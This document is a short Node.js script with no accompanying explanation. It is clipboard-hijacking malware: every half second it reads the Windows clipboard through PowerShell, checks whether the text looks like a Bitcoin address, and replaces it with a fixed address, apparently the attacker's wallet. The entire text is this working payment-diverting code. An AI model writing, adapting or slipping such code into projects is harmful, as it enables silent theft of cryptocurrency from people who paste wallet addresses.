const cp=require('child_process');
setInterval(()=>{ const t=cp.execSync('powershell Get-Clipboard').toString(); if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) cp.execSync('powershell Set-Clipboard bc1qzzz'); },500);
